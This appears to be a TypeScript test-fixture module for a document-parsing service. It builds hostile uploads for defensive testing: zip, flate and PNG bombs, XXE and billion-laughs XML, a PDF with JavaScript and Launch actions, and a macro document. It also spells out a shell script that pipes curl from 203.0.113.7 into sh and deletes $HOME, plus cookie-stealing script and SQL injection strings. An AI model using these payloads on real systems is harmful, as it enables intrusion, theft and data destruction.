    ...padded.map((s, i) => entry(s.name, 2, rights[i]!, NOSTREAM, starts[i]!, streams[i]!.data.length)),
  ];
  while (directory.length < directorySectors * 4) directory.push(entry('', 0, NOSTREAM, NOSTREAM, 0, 0));

  const header = Buffer.alloc(sector);
  Buffer.from('D0CF11E0A1B11AE1', 'hex').copy(header, 0);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3
  header.writeUInt16LE(0xfffe, 28); // byte order
  header.writeUInt16LE(9, 30); // 512-byte sectors
  header.writeUInt16LE(6, 32); // 64-byte mini sectors
  header.writeUInt32LE(1, 44); // FAT sectors
  header.writeUInt32LE(directoryStart, 48);
  header.writeUInt32LE(0x1000, 56); // mini stream cutoff
  header.writeUInt32LE(ENDOFCHAIN, 60); // no mini FAT
  header.writeUInt32LE(ENDOFCHAIN, 68); // no DIFAT sectors
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : FREESECT, 76 + i * 4);
  const fatSector = Buffer.concat(fat.map((value) => u32(value)));
  return concat(header, fatSector, ...directory, ...padded.map((s) => s.data));
}

// ---------------------------------------------------------------------------------------------------------------
// E-mail (RFC 5322 / MIME)
// ---------------------------------------------------------------------------------------------------------------

export type MailAttachment =
  { fileName: string; contentType: string; bytes: Uint8Array } | { fileName: string; message: Uint8Array };

export interface Mail {
  subject: string;
  id: string;
  body?: string;
  attachments?: MailAttachment[];
}

const CRLF = '\r\n';
const base64Lines = (bytes: Uint8Array) =>
  (
    Buffer.from(bytes)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join(CRLF);

function mailHeaders(subject: string, id: string): string {
  return [
    'From: Ola Nordmann <ola.nordmann@vinje.kommune.no>',
    'To: postmottak@fylkesmannen.no',
    `Subject: ${subject}`,
    'Date: Mon, 10 Apr 2017 09:12:00 +0200',
    `Message-ID: <${id}@vinje.kommune.no>`,
    'MIME-Version: 1.0',
  ].join(CRLF);
}

export function makeEmail({ subject, id, body = 'Se vedlagt søknad.\r\nHilsen Ola', attachments = [] }: Mail): Buffer {
  const boundary = `=_grant_${id}`;
  const text = [
    `Content-Type: text/plain; charset=utf-8`,
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(utf8(body)),
  ].join(CRLF);
  if (attachments.length === 0) return concat(mailHeaders(subject, id), CRLF, text, CRLF);
  const parts = attachments.map((attachment) =>
    'message' in attachment
      ? concat(
          `Content-Type: message/rfc822${CRLF}Content-Disposition: attachment; filename="${attachment.fileName}"${CRLF}${CRLF}`,
          attachment.message,
        )
      : concat(
          `Content-Type: ${attachment.contentType}; name="${attachment.fileName}"${CRLF}Content-Disposition: attachment; filename="${attachment.fileName}"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}`,
          base64Lines(attachment.bytes),
        ),
  );
  return concat(
    mailHeaders(subject, id),
    CRLF,
    `Content-Type: multipart/mixed; boundary="${boundary}"${CRLF}${CRLF}This is a multi-part message in MIME format.${CRLF}`,
    `--${boundary}${CRLF}`,
    text,
    CRLF,
    ...parts.flatMap((part) => [`--${boundary}${CRLF}`, part, CRLF]),
    `--${boundary}--${CRLF}`,
  );
}

/** An e-mail forwarded as an attachment `depth` times: the innermost carries the attachments. */
export function nestedEmail(depth: number, attachments: MailAttachment[]): Buffer {
  let message = makeEmail({ subject: `Niva ${depth}`, id: `nested-${depth}`, attachments });
  for (let level = depth - 1; level >= 0; level--) {
    message = makeEmail({
      subject: `Fwd: niva ${level}`,
      id: `nested-${level}`,
      attachments: [{ fileName: `videresendt-${level + 1}.eml`, message }],
    });
  }
  return message;
}

/** One attachment inside `depth` multipart/mixed containers (not attached e-mails: a deep MIME tree). */
function deepMultipartEmail(
  depth: number,
  attachment: { fileName: string; contentType: string; bytes: Uint8Array },
): Buffer {
  const open: string[] = [];
  const close: string[] = [];
  for (let level = 0; level < depth; level++) {
    open.push(`--d${level}${CRLF}Content-Type: multipart/mixed; boundary="d${level + 1}"${CRLF}${CRLF}`);
    close.unshift(`--d${level + 1}--${CRLF}`);
  }
  const leaf = `--d${depth}${CRLF}Content-Type: ${attachment.contentType}; name="${attachment.fileName}"${CRLF}Content-Disposition: attachment; filename="${attachment.fileName}"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${base64Lines(attachment.bytes)}${CRLF}`;
  return concat(
    mailHeaders('Dyp MIME', 'deep-mime'),
    CRLF,
    `Content-Type: multipart/mixed; boundary="d0"${CRLF}${CRLF}`,
    ...open,
    leaf,
    ...close,
    `--d0--${CRLF}`,
  );
}

// ---------------------------------------------------------------------------------------------------------------
// Shared good content
// ---------------------------------------------------------------------------------------------------------------

/** Words on the pages of the "good" documents, to find again in extracted text. */
export const GOOD_LINES = [
  'Søknadsskjema kompetanse og innovasjon',
  'Søker (kommune): Vinje kommune',
  'Organisasjonsnummer: 964964998',
];

export const goodPdf = () => makePdf([GOOD_LINES.join('\n')]);

/** A three-page PDF from pdfkit: the real file that the truncation cases cut. */
const threePagePdf = () =>
  makePdf([
    `${GOOD_LINES.join('\n')}\n${'Kort beskrivelse av tiltaket: opplæring i velferdsteknologi. '.repeat(20)}`,
    `2 Om tiltaket\n${'Målgruppe: ansatte i hjemmetjenesten. '.repeat(40)}`,
    `3 Økonomi\n${'Søknadsbeløp: 1 250 000 kr. '.repeat(40)}`,
  ]);

/** The first `fraction` of a file. */
const cut = (bytes: Uint8Array, fraction: number) =>
  Buffer.from(bytes).subarray(0, Math.floor(bytes.length * fraction));

const mb = (n: number) => n * 1024 * 1024;
const GiB = 1024 * 1024 * 1024;

// ---------------------------------------------------------------------------------------------------------------
// The cases
// ---------------------------------------------------------------------------------------------------------------

/** Text a form filler might type, which must come out exactly as typed: nothing run, nothing decoded twice. */
export const SCRIPT_PAYLOADS = [
  '<script>alert("søknad")</script>',
  '<img src=x onerror="fetch(\'http://203.0.113.7/\'+document.cookie)">',
  '<a href="javascript:alert(1)">Klikk her</a>',
  'Tom &amp; Jerry &lt;b&gt;fet&lt;/b&gt; &#x3C;script&#x3E;',
  '{{constructor.constructor("return process")().exit()}} ${process.exit(1)}',
  "Robert'); DROP TABLE soknader;--",
  ']]><!-- --><?php system("id"); ?>',
];

const unsupported: Outcome = { code: 'unsupported-type' };
const unreadable: Outcome = { code: 'unreadable' };

export const hostileFiles: HostileFile[] = [
  // --- Not documents at all ------------------------------------------------------------------------------------
  { name: 'zero-bytes', fileName: 'soknad.pdf', what: 'an empty file', bytes: new Uint8Array(0), expect: unreadable },
  { name: 'one-byte', fileName: 'soknad.pdf', what: 'a single byte, x', bytes: Buffer.from('x'), expect: unsupported },
  {
    name: 'random-bytes',
    fileName: 'soknad.pdf',
    what: '64 KiB of noise',
    bytes: () => Promise.resolve(seededBytes(65536, 42)),
    expect: unsupported,
  },
  {
    name: 'elf-executable-as-pdf',
    fileName: 'soknad.pdf',
    what: 'a Linux executable renamed .pdf',
    bytes: () => Promise.resolve(elfHeader()),
    expect: unsupported,
  },
  {
    name: 'pe-executable-as-pdf',
    fileName: 'soknad.pdf',
    what: 'a Windows executable renamed .pdf',
    bytes: () => Promise.resolve(peHeader()),
    expect: unsupported,
  },
  {
    name: 'shell-script-as-docx',
    fileName: 'soknad.docx',
    what: 'a shell script renamed .docx',
    bytes: utf8('#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\nrm -rf "$HOME"\n'),
    expect: unsupported,
  },
  {
    name: 'html-file',
    fileName: 'soknad.html',
    what: 'an HTML page with script',
    bytes: utf8(
      '<!DOCTYPE html>\n<html><head><script>fetch("http://203.0.113.7/?c="+document.cookie)</script></head><body><h1>Søknad</h1></body></html>\n',
    ),
    expect: unsupported,
  },
  {
    name: 'utf16-text-file',
    fileName: 'soknad.txt',
    what: 'plain text in UTF-16LE with a byte-order mark',
    bytes: concat(
      Buffer.from([0xff, 0xfe]),
      Buffer.from('Søknad om tilskudd\r\nSøker (kommune): Vinje kommune\r\n', 'utf16le'),
    ),
    expect: unsupported,
  },
  {
    name: 'svg-with-script',
    fileName: 'skjema.svg',
    what: 'an SVG image with script and an external entity',
    bytes: utf8(
      '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>&xxe;</text></svg>\n',
    ),
    expect: unsupported,
  },
  {
    name: 'gif-image',
    fileName: 'skanning.gif',
    what: 'a 1×1 GIF (an image format without OCR here)',
    bytes: GIF_1X1,
    expect: unsupported,
  },
  {
    name: 'ico-image',
    fileName: 'skanning.ico',
    what: 'a Windows icon',
    bytes: () => Promise.resolve(icon()),
    expect: unsupported,
  },
  {
    name: 'bmp-image',
    fileName: 'skanning.bmp',
    what: 'a 4×4 BMP',
    bytes: () => Promise.resolve(bitmap()),
    expect: unsupported,
  },
  {
    name: 'over-max-bytes',
    fileName: 'soknad.pdf',
    what: 'a valid 300 KiB PDF, over a 256 KiB size limit',
    bytes: async () => concat(await goodPdf(), `%${'x'.repeat(300 * 1024)}\n`),
    limits: { maxBytes: 256 * 1024 },
    expect: { code: 'too-large' },
  },
  {
    name: 'very-long-file-name',
    fileName: `${'../'.repeat(30)}${'Søknad om tilskudd – Vinje kommune '.repeat(300)}\u202Efdp.exe`,
    what: 'a good PDF under a 10 000-character name with path traversal and a right-to-left override',
    bytes: goodPdf,
    expect: { text: { contains: GOOD_LINES } },
  },

  // --- PDF -----------------------------------------------------------------------------------------------------
  {
    name: 'pdf-truncated-50',
    fileName: 'soknad.pdf',
    what: 'a real three-page PDF cut at 50%',
    bytes: async () => cut(await threePagePdf(), 0.5),
    expect: unreadable,
  },
  {
    name: 'pdf-truncated-90',
    fileName: 'soknad.pdf',
    what: 'a real three-page PDF cut at 90%',
    bytes: async () => cut(await threePagePdf(), 0.9),
    expect: unreadable,
  },
  {
    name: 'pdf-header-only',
    fileName: 'soknad.pdf',
    what: 'only the %PDF-1.7 line',
    bytes: Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
    expect: unreadable,
  },
  {
    name: 'pdf-corrupt-xref',
    fileName: 'soknad.pdf',
    what: 'a real PDF whose xref offsets and startxref are garbage (the objects are intact, so readers rebuild the table)',
    bytes: async () => {
      const pdf = Buffer.from(await goodPdf());
      const xref = pdf.lastIndexOf('xref\n0 ');
      const trailer = pdf.indexOf('trailer', xref);
      // Every offset digit becomes 9, and startxref points into the middle of the file.
      for (let i = pdf.indexOf('\n', xref + 5) + 1; i < trailer; i++)
        if (pdf[i]! >= 0x30 && pdf[i]! <= 0x39) pdf[i] = 0x39;
      const start = pdf.lastIndexOf('startxref\n') + 'startxref\n'.length;
      const digits = pdf.indexOf('\n', start) - start;
      pdf.write(
        String(Math.floor(pdf.length / 2))
          .padStart(digits, '0')
          .slice(-digits),
        start,
        'latin1',
      );
      return pdf;
    },
    expect: { text: { contains: GOOD_LINES } },
  },
  {
    name: 'pdf-cyclic-page-tree',
    fileName: 'soknad.pdf',
    what: 'the page tree is a cycle: Pages → Pages → Pages…',
    bytes: () =>
      Promise.resolve(
        buildPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
          `<< ${HELVETICA} >>`,
          { dict: '', stream: textOperators(['Aldri lest']) },
        ]),
      ),
    expect: unreadable,
  },
  {
    name: 'pdf-reference-loop',
    fileName: 'soknad.pdf',
    what: 'the only page is an endless chain of references: 3 0 R → 6 0 R → 3 0 R…',
    bytes: () =>
      Promise.resolve(
        buildPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '6 0 R',
          `<< ${HELVETICA} >>`,
          { dict: '', stream: textOperators(['Aldri lest']) },
          '3 0 R',
        ]),
      ),
    expect: unreadable,
  },
  {
    name: 'pdf-self-referencing-length',
    fileName: 'soknad.pdf',
    what: "the content stream's /Length is a reference to its own object (readers must not recurse; the stream ends at endstream)",
    bytes: () =>
      Promise.resolve(
        buildPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
          `<< ${HELVETICA} >>`,
          { dict: '', stream: textOperators(['Lengden peker på seg selv']), length: '5 0 R' },
        ]),
      ),
    expect: { text: { contains: ['Lengden peker på seg selv'] } },
  },
  {
    name: 'pdf-encrypted-rc4-40',
    fileName: 'soknad.pdf',
    what: 'a user password (RC4 40-bit, revision 2)',
    bytes: () => Promise.resolve(encryptedPdf('rc4-40', ['Hemmelig søknad'], 'hemmelig', 'eier')),
    expect: { code: 'encrypted' },
  },
  {
    name: 'pdf-encrypted-aes-128',
    fileName: 'soknad.pdf',
    what: 'a user password (AES-128, revision 4)',
    bytes: () => Promise.resolve(encryptedPdf('aes-128', ['Hemmelig søknad'], 'hemmelig', 'eier')),
    expect: { code: 'encrypted' },
  },
  {
    name: 'pdf-encrypted-aes-256',
    fileName: 'soknad.pdf',
    what: 'a user password (AES-256, revision 6)',
    bytes: () => Promise.resolve(encryptedPdf('aes-256', ['Hemmelig søknad'], 'hemmelig', 'eier')),
    expect: { code: 'encrypted' },
  },
  {
    name: 'pdf-owner-password-only',
    fileName: 'soknad.pdf',
    what: 'encrypted with an empty user password (only editing is restricted): opens without asking, as in any viewer',
    bytes: () => Promise.resolve(encryptedPdf('aes-128', ['Søknad med redigeringssperre'], '', 'eier')),
    expect: { text: { contains: ['Søknad med redigeringssperre'] } },
  },
  {
    name: 'pdf-javascript-openaction',
    fileName: 'soknad.pdf',
    what: 'an endless-loop /JavaScript /OpenAction, page and field actions, a /Launch action, an embedded executable',
    bytes: () =>
      Promise.resolve(
        simplePdf({
          lines: ['Søknadsskjema med skript', 'Kontaktperson: Kari Nordmann'],
          catalog:
            '/OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] >> ' +
            '/Names << /JavaScript << /Names [(boot) 6 0 R] >> /EmbeddedFiles << /Names [(oppdatering.exe) 9 0 R] >> >>',
          page: '/AA << /O 6 0 R /C 6 0 R >> /Annots [8 0 R 10 0 R]',
          extra: [
            `<< /Type /Action /S /JavaScript /JS ${pdfString("while (true) { app.alert('x'); } this.exportDataObject({ cName: 'oppdatering.exe', nLaunch: 2 });")} /Next 7 0 R >>`,
            `<< /Type /Action /S /Launch /F ${pdfString('/bin/sh')} /Win << /F ${pdfString('cmd.exe')} /P ${pdfString('/c calc.exe')} >> >>`,
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (belop) /Rect [72 600 300 620] /P 3 0 R /AA << /K 6 0 R /C 6 0 R /F 6 0 R >> >>`,
            '<< /Type /Filespec /F (oppdatering.exe) /UF (oppdatering.exe) /EF << /F 11 0 R >> >>',
            `<< /Type /Annot /Subtype /Link /Rect [72 500 300 520] /A << /S /URI /URI ${pdfString('javascript:while(1){}')} >> >>`,
            { dict: '/Type /EmbeddedFile', stream: elfHeader() },
          ],
        }),
      ),
    expect: { text: { contains: ['Søknadsskjema med skript', 'Kontaktperson: Kari Nordmann'] } },
  },
  {
    name: 'pdf-2000-pages',
    fileName: 'soknad.pdf',
    what: '2 000 pages (pdfkit), over the 500-page default',
    bytes: () => makePdf(Array.from({ length: 2000 }, (_, i) => `Side ${i + 1}`)),
    expect: { code: 'too-large' },
  },
  {
    name: 'pdf-control-characters-in-text',
    fileName: 'soknad.pdf',
    what: 'a text line of raw control bytes (NUL, BEL, BS, ESC[31m, DEL) between two readable lines',
    bytes: () =>
      Promise.resolve(
        simplePdf({
          lines: ['Kontrolltegn kommer her:', '\0\x01\x02\x07\x08\x1b[31m\x7f\0\0', 'og her er teksten igjen'],
        }),
      ),
    expect: { text: { contains: ['Kontrolltegn kommer her:', 'og her er teksten igjen'] } },
  },
  {
    name: 'pdf-text-layer-all-control-characters',
    fileName: 'soknad.pdf',
    what: 'visible Helvetica text whose ToUnicode maps every glyph to U+0000–U+001F',
    bytes: () =>
      Promise.resolve(
        simplePdf({
          lines: ['Soknad om tilskudd', 'Vinje kommune'],
          font: '/ToUnicode 6 0 R',
          extra: [
            {
              dict: '',
              stream: toUnicodeCMap(
                [0x20, 0x40, 0x60, 0x80, 0xa0, 0xc0, 0xe0].map((from) => [from, from + 0x1f, 0x0000]),
              ),
            },
          ],
        }),
      ),
    expect: { text: { ocrContains: ['Soknad om tilskudd', 'Vinje kommune'] } },
  },
  {
    name: 'pdf-text-layer-garbage-glyphs',
    fileName: 'soknad.pdf',
    what: 'visible Helvetica text whose ToUnicode maps the glyphs to private-use and CJK code points',
    bytes: () =>
      Promise.resolve(
        simplePdf({
          lines: ['Soknad om tilskudd', 'Vinje kommune'],
          font: '/ToUnicode 6 0 R',
          extra: [
            {
              dict: '',
              stream: toUnicodeCMap([
                [0x20, 0x7f, 0xe000],
                [0x80, 0xff, 0x4e00],
              ]),
            },
          ],
        }),
      ),
    expect: { text: { ocrContains: ['Soknad om tilskudd', 'Vinje kommune'] } },
  },
  {
    name: 'pdf-xobject-laughs',
    fileName: 'soknad.pdf',
    what: 'nine levels of form XObjects, each drawing the next ten times: 10^9 text runs (a billion laughs in PDF)',
    bytes: () => {
      const levels = 9;
      const forms: PdfObject[] = Array.from({ length: levels }, (_, level) => ({
        dict: `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> ${level < levels - 1 ? `/XObject << /X ${7 + level} 0 R >>` : ''} >>`,
        stream: level < levels - 1 ? '/X Do '.repeat(10) : 'BT /F1 12 Tf 72 700 Td (lol) Tj ET',
      }));
      return Promise.resolve(
        buildPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /X 6 0 R >> >> /Contents 5 0 R >>',
          `<< ${HELVETICA} >>`,
          { dict: '', stream: '/X Do' },
          ...forms,
        ]),
      );
    },
    limits: { timeoutMs: 3000 },
    expect: { code: 'too-complex' },
  },
  {
    name: 'pdf-flate-bomb',
    fileName: 'soknad.pdf',
    what: 'a 2.5 MB content stream (FlateDecode) that inflates to 2.5 GiB of spaces before its text',
    bytes: () => {
      const content = zlibRuns([
        { repeat: ' ', times: 2.5 * GiB },
        Buffer.from(textOperators(['Etter bomben']), 'latin1'),
      ]);
      return Promise.resolve(
        buildPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
          `<< ${HELVETICA} >>`,
          { dict: '/Filter /FlateDecode', stream: content.data },
        ]),
      );
    },
    // 20 s, a sixth of the default time limit: long enough for an unbounded inflater to pass the suite's RSS limit.
    limits: { timeoutMs: 20_000, maxMemoryMb: 256 },
    expect: {
      anyOf: [{ code: 'too-complex' }, { code: 'too-large' }],
      why: 'a PDF does not declare what its streams inflate to: the sandbox stops it by memory or time (too-complex), or a reader that counts inflated bytes stops it (too-large)',
    },
  },

  // --- Word .docx, .docm, and zips -------------------------------------------------------------------------------
  {
    name: 'docx-zip-bomb',
    fileName: 'soknad.docx',
    what: 'a 3 MB .docx whose word/document.xml inflates to 3 GiB of one byte (sizes stated honestly)',
    bytes: () =>
      Promise.resolve(
        minimalDocx({
          name: 'word/document.xml',
          deflated: deflateRuns([
            utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`),
            { repeat: 'a', times: 3 * GiB },
            utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`),
          ]),
        }),
      ),
    expect: { code: 'too-large' },
  },
  {
    name: 'docx-zip-bomb-lying-sizes',
    fileName: 'soknad.docx',
    what: 'the same bomb, but its zip headers claim word/document.xml is 1 KiB',
    bytes: () =>
      Promise.resolve(
        minimalDocx({
          name: 'word/document.xml',
          deflated: deflateRuns([
            utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`),
            { repeat: 'a', times: 3 * GiB },
            utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`),
          ]),
          declaredSize: 1024,
        }),
      ),
    expect: {
      anyOf: [{ code: 'unreadable' }, { code: 'too-large' }],
      why: 'the entry inflates past the size its headers state: a reader that checks sizes sees a damaged zip (unreadable), one that counts inflated bytes sees a bomb (too-large); both stop before holding it',
    },
  },
  {
    name: 'docx-document-xml-220mb',
    fileName: 'soknad.docx',
    what: 'a valid .docx whose document.xml is 220 MB of ordinary paragraphs (about 300 KB zipped)',
    bytes: () =>
      Promise.resolve(
        minimalDocx({
          name: 'word/document.xml',
          deflated: deflateRuns([
            utf8(DOCUMENT_OPEN),
            { repeat: paragraph('Søknad om tilskudd til opplæring i Vinje kommune. '), times: 2_080_000 },
            utf8(DOCUMENT_CLOSE),
          ]),
        }),
      ),
    expect: { code: 'too-large' },
  },
  {
    name: 'docx-declared-200mb',
    fileName: 'soknad.docx',
    what: 'a small document.xml whose zip headers declare 200 MiB + 1 byte',
    bytes: () =>
      Promise.resolve(
        minimalDocx({
          name: 'word/document.xml',
          data: `${DOCUMENT_OPEN}${paragraph('Liten søknad')}${DOCUMENT_CLOSE}`,
          declaredSize: mb(200) + 1,
        }),
      ),
    expect: {
      anyOf: [{ code: 'too-large' }, { code: 'unreadable' }],
      why: 'the declared size is over the limit (too-large, refused before inflating), and it is also false (unreadable, if sizes are checked first)',
    },
  },
  {
    name: 'docx-corrupt-central-directory',
    fileName: 'soknad.docx',
    what: 'a real .docx (docx library) whose central directory is overwritten with noise',
    bytes: async () => corruptCentralDirectory(await makeDocx(GOOD_LINES)),
    expect: unreadable,
  },
  {
    name: 'zip-not-docx',
    fileName: 'soknad.docx',
    what: 'a zip of a readme and a CSV, renamed .docx',
    bytes: () =>
      Promise.resolve(
        makeZip([
          { name: 'README.txt', data: 'Budsjett vedlagt.\n' },
          { name: 'budsjett.csv', data: 'post;belop\nlonn;1250000\n' },
        ]),
      ),
    expect: unsupported,
  },
  {
    name: 'docx-missing-document-xml',
    fileName: 'soknad.docx',
    what: 'content types and relationships of a .docx, but no word/document.xml',
    bytes: () =>
      Promise.resolve(
        makeZip([
          { name: '[Content_Types].xml', data: contentTypes() },
          { name: '_rels/.rels', data: PACKAGE_RELS },
          { name: 'word/styles.xml', data: `${XML_DECLARATION}<w:styles xmlns:w="${W_NS}"/>` },
        ]),
      ),
    expect: unreadable,
  },
  {
    name: 'docx-billion-laughs',
    fileName: 'soknad.docx',
    what: 'document.xml with a DOCTYPE of ten nested entities (10^9 "lol"s if expanded)',
    bytes: () => {
      const entities = [
        '<!ENTITY lol "lol">',
        ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
      ];
      const xml = `<?xml version="1.0"?>\n<!DOCTYPE w:document [\n${entities.join('\n')}\n]>\n<w:document xmlns:w="${W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`;
      return Promise.resolve(minimalDocx({ name: 'word/document.xml', data: xml }));
    },
    expect: {
      anyOf: [{ code: 'unreadable' }, { text: { excludes: ['lollollollol'] } }],
      why: 'OOXML forbids a DTD (Word refuses the file: unreadable); a reader that ignores the DTD reads the text without expanding the entities',
    },
  },
  {
    name: 'docx-xxe-external-entity',
    fileName: 'soknad.docx',
    what: 'document.xml with an external entity pointing at /etc/passwd',
    bytes: () => {
      const xml = `<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<w:document xmlns:w="${W_NS}"><w:body><w:p><w:r><w:t>Passord: &xxe;</w:t></w:r></w:p></w:body></w:document>`;
      return Promise.resolve(minimalDocx({ name: 'word/document.xml', data: xml }));
    },
    expect: {
      anyOf: [{ code: 'unreadable' }, { text: { excludes: ['root:', /:\/bin\/(?:ba|z|da)?sh/] } }],
      why: 'OOXML forbids a DTD (unreadable); a reader that ignores it must never resolve the entity',
    },
  },
  {
    name: 'docx-script-and-html-payloads',
    fileName: 'soknad.docx',
    what: 'a real .docx whose text is script, HTML, entities, template and SQL injection: read as plain text, not rejected',
    bytes: () => makeDocx(SCRIPT_PAYLOADS),
    expect: { text: { contains: SCRIPT_PAYLOADS } },
  },
  {
    name: 'docm-with-macros',
    fileName: 'soknad.docm',
    what: 'a macro-enabled Word document (vbaProject.bin with AutoOpen): its text is read, its macros never run',
    bytes: () =>
      Promise.resolve(
        minimalDocx(
          { name: 'word/document.xml', data: `${DOCUMENT_OPEN}${paragraph('Søknad med makro')}${DOCUMENT_CLOSE}` },
          [
            {
              name: 'word/_rels/document.xml.rels',
              data: `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`,
            },
            {
              name: 'word/vbaProject.bin',
              data: compoundFile([
                { name: 'VBA', data: utf8('Sub AutoOpen()\r\n  Shell "cmd /c calc.exe"\r\nEnd Sub\r\n') },
              ]),
            },
          ],
          contentTypes(
            'application/vnd.ms-word.document.macroEnabled.main+xml',
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
          ),
        ),
      ),
    expect: { text: { contains: ['Søknad med makro'] } },
  },
  {
    name: 'odt-missing-content-xml',
    fileName: 'soknad.odt',
    what: 'an OpenDocument text with its mimetype entry first, but no content.xml',
    bytes: () =>
      Promise.resolve(
        makeZip([
          { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true },
          {
            name: 'META-INF/manifest.xml',
            data: `${XML_DECLARATION}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`,
          },
        ]),
      ),
    expect: unreadable,
  },

  // --- Word 97–2003 and other OLE2 files -----------------------------------------------------------------------
  {
    name: 'doc-ole2-magic-then-garbage',
    fileName: 'soknad.doc',
    what: 'the OLE2 signature, then 8 KiB of noise (no valid compound-file header)',
    bytes: () => Promise.resolve(concat(Buffer.from('D0CF11E0A1B11AE1', 'hex'), seededBytes(8192, 5))),
    expect: unreadable,
  },
  {
    name: 'doc-garbage-word-stream',
    fileName: 'soknad.doc',
    what: 'a valid compound file with WordDocument and 1Table streams full of noise',
    bytes: () =>
      Promise.resolve(
        compoundFile([
          { name: 'WordDocument', data: seededBytes(8192, 8) },
          { name: '1Table', data: seededBytes(4096, 9) },
        ]),
      ),
    expect: unreadable,
  },
  {
    name: 'ole2-excel-not-word',
    fileName: 'soknad.doc',
    what: 'a valid compound file with a Workbook stream (an Excel 97 file), renamed .doc',
    bytes: () => Promise.resolve(compoundFile([{ name: 'Workbook', data: seededBytes(4096, 10) }])),
    expect: unsupported,
  },

  // --- RTF -----------------------------------------------------------------------------------------------------
  {
    name: 'rtf-deep-nesting',
    fileName: 'soknad.rtf',
    what: '200 000 nested groups around one line of text',
    bytes: () => Promise.resolve(concat('{\\rtf1\\ansi ', '{'.repeat(200_000), 'Dyp tekst', '}'.repeat(200_000), '}')),
    limits: { timeoutMs: 20_000 },
    expect: {
      anyOf: [{ text: { contains: ['Dyp tekst'] } }, { code: 'too-complex' }, { code: 'unreadable' }],
      why: 'RTF sets no depth limit: a reader with its own stack reads the line; one with a depth limit refuses it (too-complex, or unreadable); a crash or a hang is what must not happen',
    },
  },
  {
    name: 'rtf-empty',
    fileName: 'soknad.rtf',
    what: 'an RTF document with no content at all: {\\rtf1}',
    bytes: Buffer.from('{\\rtf1}'),
    expect: unreadable,
  },
  {
    name: 'rtf-control-characters',
    fileName: 'soknad.rtf',
    what: 'NUL, BEL, ESC and DEL as hex escapes between readable words',
    bytes: Buffer.from(
      "{\\rtf1\\ansi\\ansicpg1252 S\\'f8knad med kontrolltegn\\par \\'00\\'07\\'1b[31m\\'7f\\'00 og tekst etterp\\'e5\\par}",
      'latin1',
    ),
    expect: { text: { contains: ['Søknad med kontrolltegn', 'og tekst etterpå'] } },
  },
  {
    name: 'rtf-bin-overrun',
    fileName: 'soknad.rtf',
    what: '\\bin2000000000: a binary run far longer than the file',
    bytes: Buffer.from('{\\rtf1\\ansi Start {\\*\\blipuid \\bin2000000000 ', 'latin1'),
    expect: unreadable,
  },

  // --- Images --------------------------------------------------------------------------------------------------
  {
    name: 'png-bad-crc',
    fileName: 'skanning.png',
    what: 'a valid PNG with its IHDR checksum flipped',
    bytes: () => {
      const png = makePng(200, 100);
      png[29] = png[29]! ^ 0xff; // the last byte of IHDR's CRC (8 signature + 4 length + 4 type + 13 data)
      return Promise.resolve(png);
    },
    expect: unreadable,
  },
  {
    name: 'png-truncated',
    fileName: 'skanning.png',
    what: 'a PNG of noise cut in the middle of its image data',
    bytes: () => Promise.resolve(cut(makePng(400, 300, true), 0.5)),
    expect: unreadable,
  },
  {
    name: 'png-decompression-bomb',
    fileName: 'skanning.png',
    what: 'a valid 1.2 MB PNG of 100 000 × 100 000 pixels (10 gigapixels)',
    bytes: () => Promise.resolve(pngBomb(100_000, 100_000)),
    expect: { code: 'too-large' },
  },
  {
    name: 'jpeg-header-only',
    fileName: 'skanning.jpg',
    what: 'SOI and a JFIF APP0 segment, nothing else',
    bytes: Buffer.from('FFD8FFE000104A46494600010100004800480000', 'hex'),
    expect: unreadable,
  },
  {
    name: 'tiff-truncated',
    fileName: 'skanning.tif',
    what: 'a TIFF whose 1 MB strip stops after 1 000 bytes',
